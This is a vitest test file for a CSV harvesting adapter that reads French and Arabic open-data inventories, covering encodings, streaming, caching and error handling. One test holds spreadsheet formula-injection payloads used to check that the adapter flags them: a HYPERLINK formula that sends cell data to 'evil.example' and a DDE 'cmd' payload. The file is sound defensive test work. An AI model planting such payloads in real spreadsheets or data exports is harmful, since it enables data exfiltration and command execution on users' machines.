import iconv from 'iconv-lite';
import { afterEach, describe, expect, it } from 'vitest';
import { ConfigError, FetchRefusedError, ParseError } from '@hasad/core';
import { loopbackHttp, routes, startLoopback } from '@hasad/sources/testing';
import type { Handler, Loopback } from '@hasad/sources/testing';
import { getAdapter, harvestWithConfig } from '../index.ts';
import { previewSource } from '../../preview.ts';
import type { BatchEvent, ConfiguredHarvestOptions, HarvestEvent, HarvestOptions, PageEvent } from '../../types.ts';
import { csvAdapter } from './index.ts';

let server: Loopback | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

async function serve(handler: Handler): Promise<Loopback> {
  server = await startLoopback(handler);
  return server;
}

async function run(opts: Partial<ConfiguredHarvestOptions> & { url: string }): Promise<{ events: HarvestEvent[]; error?: unknown }> {
  const events: HarvestEvent[] = [];
  try {
    for await (const ev of harvestWithConfig(csvAdapter, { config: {}, http: loopbackHttp, ...opts })) events.push(ev);
  } catch (error) {
    return { events, error };
  }
  return { events };
}

const batches = (events: HarvestEvent[]) => events.filter((e): e is BatchEvent => e.type === 'batch');
const pages = (events: HarvestEvent[]) => events.filter((e): e is PageEvent => e.type === 'page');
const records = (events: HarvestEvent[]) => batches(events).flatMap((b) => b.records);
const problems = (events: HarvestEvent[]) => [...batches(events).flatMap((b) => b.problems), ...pages(events).flatMap((p) => p.problems ?? [])];

const FRENCH_CSV =
  'identifiant;titre;description;mots-clés;date de mise à jour;licence;url;format\r\n' +
  "eau-1;Qualité de l'eau potable;Analyses mensuelles;eau, santé;2024-01-15;Licence ouverte;https://data.gov.ma/eau-1;CSV\r\n" +
  'eau-2;Réseau d’assainissement;Linéaire des réseaux;assainissement;2023-12-01;Licence ouverte;https://data.gov.ma/eau-2;SHP\r\n' +
  'eau-3;Données pluviométriques;Cumuls journaliers;"pluie; météo";2024-02-29;Licence ouverte;https://data.gov.ma/eau-3;CSV, XLSX\r\n' +
  'eau-4;Barrages : taux de remplissage;Hebdomadaire;barrages;2024-03-04;Licence ouverte;https://data.gov.ma/eau-4;JSON\r\n' +
  'eau-5;Nappes phréatiques;Piézométrie;nappes;2024-03-05;Licence ouverte;https://data.gov.ma/eau-5;CSV\r\n';

describe('CSV harvest over HTTP', () => {
  it('streams a windows-1252 semicolon file in batches, then one page event with the validators', async () => {
    const s = await serve(
      routes({
        '/inventaire.csv': {
          headers: { 'content-type': 'text/csv', etag: '"inv-1"', 'last-modified': 'Wed, 01 May 2024 10:00:00 GMT' },
          body: iconv.encode(FRENCH_CSV, 'windows-1252'),
        },
      }),
    );
    const { events, error } = await run({ url: `${s.base}/inventaire.csv`, batchSize: 2 });
    expect(error).toBeUndefined();
    expect(events.map((e) => (e.type === 'batch' ? `batch ${e.batchNo}: ${e.records.length}` : 'page'))).toEqual(['batch 0: 2', 'batch 1: 2', 'batch 2: 1', 'page']);
    expect(records(events).map((r) => r.title[''])).toEqual([
      "Qualité de l'eau potable",
      'Réseau d’assainissement',
      'Données pluviométriques',
      'Barrages : taux de remplissage',
      'Nappes phréatiques',
    ]);
    expect(records(events)[2]).toMatchObject({ keywords: { '': ['pluie', 'météo'] }, distributions: [{ format: 'CSV' }, { format: 'XLSX' }], modified: '2024-02-29' });
    const page = pages(events)[0] as PageEvent;
    expect(page).toMatchObject({
      pageNo: 1,
      url: `${s.base}/inventaire.csv`,
      notModified: false,
      etag: '"inv-1"',
      lastModified: 'Wed, 01 May 2024 10:00:00 GMT',
      batchCount: 3,
      recordCount: 5,
      bytes: iconv.encode(FRENCH_CSV, 'windows-1252').length,
      format: 'csv',
    });
    expect(page.nextUrl).toBeUndefined();
    // The header's notes come with the first batch (a preview that stops early still shows them).
    expect(page.problems).toBeUndefined();
    const first = batches(events)[0] as BatchEvent;
    expect(first.problems.map((p) => `${p.severity}:${p.code}`)).toEqual(['info:csv_dialect', 'info:csv_mapping']);
    expect(batches(events).slice(1).flatMap((b) => b.problems)).toEqual([]);
    expect(first.problems[0]?.message).toMatch(/^read as windows-1252 \(detected: not UTF-8.*\), semicolon-delimited \(detected\)$/);
    expect(s.requests[0]?.headers['accept']).toMatch(/^text\/csv/);
  });

  it('honours 304 Not Modified: a page event alone, validators kept for the next run', async () => {
    const s = await serve((req, res) => {
      if (req.headers['if-none-match'] === '"inv-1"') {
        res.writeHead(304, { etag: '"inv-1"' });
        res.end();
        return;
      }
      res.writeHead(200, { 'content-type': 'text/csv', etag: '"inv-1"' });
      res.end(FRENCH_CSV);
    });
    const url = `${s.base}/inventaire.csv`;
    const first = await run({ url });
    expect(records(first.events)).toHaveLength(5);
    const etag = pages(first.events)[0]?.etag;

    const asked: string[] = [];
    const second = await run({
      url,
      validators: async (u) => {
        asked.push(u);
        return { etag: etag ?? null, lastModified: 'Wed, 01 May 2024 10:00:00 GMT' };
      },
    });
    expect(second.error).toBeUndefined();
    expect(asked).toEqual([url]);
    expect(second.events).toEqual([{ type: 'page', pageNo: 1, url, notModified: true, etag: '"inv-1"', lastModified: 'Wed, 01 May 2024 10:00:00 GMT', batchCount: 0, recordCount: 0, bytes: 0, format: 'csv' }]);
    expect(s.requests[1]?.headers['if-none-match']).toBe('"inv-1"');
    expect(s.requests[1]?.headers['if-modified-since']).toBe('Wed, 01 May 2024 10:00:00 GMT');
  });

  it('yields the first batch before the server has sent the whole file (streaming, not buffering)', async () => {
    let finish: (() => void) | undefined;
    let finished = false;
    const row = (i: number) => `ds-${i};Jeu de données numéro ${i} sur la qualité de l'eau;https://data.gov.ma/ds/${i}\n`;
    const s = await serve((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/csv; charset=utf-8' });
      // More than the 64 KB the adapter sniffs, then hold the response open.
      let first = 'id;titre;url\n';
      for (let i = 0; i < 1200; i++) first += row(i);
      res.write(first);
      finish = () => {
        let rest = '';
        for (let i = 1200; i < 3000; i++) rest += row(i);
        finished = true;
        res.end(rest);
      };
    });
    const events = harvestWithConfig(csvAdapter, { url: `${s.base}/big.csv`, config: {}, http: loopbackHttp, batchSize: 500 });
    const firstEvent = (await events.next()).value as BatchEvent;
    expect(firstEvent.type).toBe('batch');
    expect(firstEvent.records).toHaveLength(500);
    expect(finished).toBe(false);
    finish?.();
    let total = firstEvent.records.length;
    for await (const ev of events) if (ev.type === 'batch') total += ev.records.length;
    expect(total).toBe(3000);
  });

  it('reads an Arabic windows-1256 file and a UTF-16 file with BOM', async () => {
    const arabic = 'المعرف,العنوان,الوصف,الكلمات المفتاحية\nم-1,جودة المياه,"نتائج التحاليل الشهرية، حسب المحطة",ماء;صحة\nم-2,الموارد المائية,السدود والآبار,سدود\n';
    const s = await serve(
      routes({
        '/ar.csv': { headers: { 'content-type': 'text/csv' }, body: iconv.encode(arabic, 'windows-1256') },
        '/utf16.csv': { body: iconv.encode('titre\tdescription\r\nQualité de l’eau\tجودة المياه\r\n', 'utf-16le', { addBOM: true }) },
      }),
    );
    const ar = await run({ url: `${s.base}/ar.csv`, config: { defaultLanguage: 'ar' } });
    expect(ar.error).toBeUndefined();
    expect(records(ar.events).map((r) => [r.identifier, r.title, r.keywords])).toEqual([
      ['م-1', { ar: 'جودة المياه' }, { ar: ['ماء', 'صحة'] }],
      ['م-2', { ar: 'الموارد المائية' }, { ar: ['سدود'] }],
    ]);
    expect(records(ar.events)[0]?.description).toEqual({ ar: 'نتائج التحاليل الشهرية، حسب المحطة' });
    expect(batches(ar.events)[0]?.problems[0]?.message).toMatch(/^read as windows-1256 \(detected/);

    const u16 = await run({ url: `${s.base}/utf16.csv` });
    // The description column's header does not tell its language; its Arabic text does.
    expect(records(u16.events)[0]).toMatchObject({ title: { '': 'Qualité de l’eau' }, description: { ar: 'جودة المياه' } });
    expect(batches(u16.events)[0]?.problems[0]?.message).toMatch(/^read as utf-16le \(byte-order mark\), tab-delimited/);
  });

  it('fails an HTML page served with status 200 with a clear ParseError, before any batch', async () => {
    const s = await serve(
      routes({
        '/inventaire.csv': {
          headers: { 'content-type': 'text/html; charset=utf-8' },
          body: '<!DOCTYPE html>\n<html><head><title>Portail - maintenance</title></head><body><h1>Le service est en maintenance</h1></body></html>',
        },
      }),
    );
    const { events, error } = await run({ url: `${s.base}/inventaire.csv` });
    expect(events).toEqual([]);
    expect(error).toBeInstanceOf(ParseError);
    expect((error as ParseError).permanent).toBe(true);
    expect((error as Error).message).toBe(
      `could not parse csv from ${s.base}/inventaire.csv: received an HTML page (Content-Type text/html), not CSV: titled "Portail - maintenance"`,
    );
  });

  it('fails a spreadsheet or other binary file with a ParseError that says what it is', async () => {
    const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00]), Buffer.alloc(200, 7)]);
    const s = await serve(routes({ '/inventaire.csv': { headers: { 'content-type': 'application/octet-stream' }, body: zip } }));
    const { events, error } = await run({ url: `${s.base}/inventaire.csv` });
    expect(events).toEqual([]);
    expect(error).toBeInstanceOf(ParseError);
    expect((error as Error).message).toMatch(/received a ZIP archive \(an \.xlsx or \.ods workbook is one\) \(Content-Type application\/octet-stream\), not a CSV text file; first bytes 50 4b 03 04/);
  });

  it('reports bad rows, duplicates and hashed identifiers as problems, and the run goes on', async () => {
    const csv =
      'titre,url,date de mise à jour,description\n' +
      'Eau,https://x.ma/eau,2024-01-01,ok\n' +
      ',https://x.ma/sans-titre,2024-01-01,pas de titre\n' +
      'Air,https://x.ma/air,31/13/2023,date impossible\n' +
      'Eau,https://x.ma/eau,2024-02-01,doublon\n' +
      'Sol,https://x.ma/sol\n' +
      'Bruit,https://x.ma/bruit,2024-01-01,ok\n';
    const s = await serve(routes({ '/i.csv': { body: csv } }));
    const { events, error } = await run({ url: `${s.base}/i.csv` });
    expect(error).toBeUndefined();
    expect(records(events).map((r) => r.title[''])).toEqual(['Eau', 'Air', 'Bruit']);
    expect(records(events)[1]?.modified).toBeUndefined();
    const all = problems(events);
    expect(all.filter((p) => p.severity !== 'info').map((p) => `${p.severity}:${p.code}:${p.message.slice(0, 6)}`)).toEqual([
      'error:missing_title:line 3',
      'warning:invalid_date:line 4',
      'warning:duplicate_identifier:line 5',
      'error:invalid_row:line 6',
      'warning:identifier_from_hash:3 of 6',
    ]);
    expect(all.filter((p) => p.code === 'identifier_from_hash')).toHaveLength(1);
    expect(batches(events)[0]?.invalidIdentifiers).toEqual([]);
  });

  it('flags cells that a spreadsheet would run as formulas (csv_formula_cell, naming the column) and keeps them as data', async () => {
    // Issue 4's hostile case: an institution's inventory (or whoever edited it) carries formulas.
    const body =
      'identifiant;titre;description;url;téléphone\r\n' +
      'f-1;=HYPERLINK("http://evil.example/?d="&A1,"Cliquez");Analyses;https://data.gov.ma/f-1;+212 537 00 00 00\r\n' +
      'f-2;Réseau;@SUM(A1:A9);https://data.gov.ma/f-2;\r\n' +
      'f-3;Pluie;"\t=1+1";https://data.gov.ma/f-3;\r\n' +
      "=cmd|' /C calc'!A0;Barrages;-2+3+cmd|' /C calc'!A0;https://data.gov.ma/f-4;\r\n" +
      'f-5;- voir annexe;-5 % sur un an, +3 en 2024 @ministère;https://data.gov.ma/f-5;\r\n';
    const s = await serve(routes({ '/formules.csv': { headers: { 'content-type': 'text/csv; charset=utf-8' }, body } }));
    const { events, error } = await run({ url: `${s.base}/formules.csv` });
    expect(error).toBeUndefined();
    const recs = records(events);
    expect(recs.map((r) => r.identifier)).toEqual(['f-1', 'f-2', 'f-3', "=cmd|' /C calc'!A0", 'f-5']);
    // Stored as published (trimmed): neutralising is the CSV writer's job, not the harvester's.
    expect(recs[0]?.title['']).toBe('=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")');
    expect(recs[1]?.description['']).toBe('@SUM(A1:A9)');
    expect(recs[2]?.description['']).toBe('=1+1');
    const formulas = problems(events).filter((p) => p.code === 'csv_formula_cell');
    expect(formulas.map((p) => [p.severity, p.identifier, p.field])).toEqual([
      ['warning', 'f-1', 'title'],
      ['warning', 'f-2', 'description'],
      ['warning', 'f-3', 'description'],
      ['warning', "=cmd|' /C calc'!A0", 'identifier'],
      ['warning', "=cmd|' /C calc'!A0", 'description'],
    ]);
    expect(formulas[0]?.message).toMatch(/^line 2: column "titre" \(title\) holds "=HYPERLINK\(.*, which a spreadsheet would run as a formula; kept as text/);
    expect(formulas[3]?.message).toContain('column "identifiant" (identifier)');
    // A phone number, a negative figure, a dash or an @ in prose are data, not formulas; row 5 is clean.
    expect(problems(events).filter((p) => p.identifier === 'f-5')).toEqual([]);
  });

  it('puts invalid rows with a known identifier in invalidIdentifiers', async () => {
    const s = await serve(routes({ '/i.csv': { body: 'id;titre\na;Eau\nb;\nc;Air\n' } }));
    const { events } = await run({ url: `${s.base}/i.csv` });
    expect(batches(events)[0]).toMatchObject({ invalidIdentifiers: ['b'], records: [{ identifier: 'a' }, { identifier: 'c' }] });
  });

  it('fails when the file lacks the mapped identifier column, before any batch', async () => {
    const s = await serve(routes({ '/i.csv': { body: 'titre;url\nEau;https://x.ma\n' } }));
    const { events, error } = await run({ url: `${s.base}/i.csv`, config: { mapping: { identifier: 'id', title: 'titre' } } });
    expect(events).toEqual([]);
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as Error).message).toContain('lacks the column(s) its mapping needs: "id" for identifier. Its header is: "titre", "url"');
  });

  it('refuses a bad config without a request', async () => {
    const s = await serve(routes({}));
    const { error } = await run({ url: `${s.base}/i.csv`, config: { mapping: { title: 'titre' }, separator: ';' } });
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as Error).message).toContain('unknown key(s): separator');
    expect(s.requests).toHaveLength(0);
  });

  it('stops a file larger than maxBytes with FetchRefusedError', async () => {
    let body = 'id;titre\n';
    for (let i = 0; i < 5000; i++) body += `${i};Jeu ${i}\n`;
    const s = await serve(routes({ '/i.csv': { body } }));
    const { error } = await run({ url: `${s.base}/i.csv`, http: { ...loopbackHttp, maxBytes: 20_000 } });
    expect(error).toBeInstanceOf(FetchRefusedError);
  });

  it('warns about an empty file and a header without rows', async () => {
    const s = await serve(routes({ '/empty.csv': { body: '' }, '/header.csv': { body: 'id;titre\n' } }));
    for (const [path, why] of [
      ['/empty.csv', 'the file is empty'],
      ['/header.csv', 'the file has a header but no rows'],
    ] as const) {
      const { events, error } = await run({ url: `${s.base}${path}` });
      expect(error).toBeUndefined();
      expect(batches(events)).toEqual([]);
      expect(pages(events)[0]?.problems).toContainEqual(expect.objectContaining({ severity: 'warning', code: 'no_datasets', message: expect.stringContaining(why) }));
    }
  });

  it('is the adapter for kind csv, and previews through previewSource', async () => {
    expect(getAdapter('csv').kind).toBe(csvAdapter.kind);
    const s = await serve(routes({ '/i.csv': { body: iconv.encode(FRENCH_CSV, 'windows-1252') } }));
    const preview = await previewSource('csv', `${s.base}/i.csv`, {}, { limit: 2, http: loopbackHttp });
    expect(preview.records.map((r) => r.identifier)).toEqual(['eau-1', 'eau-2']);
  });
});
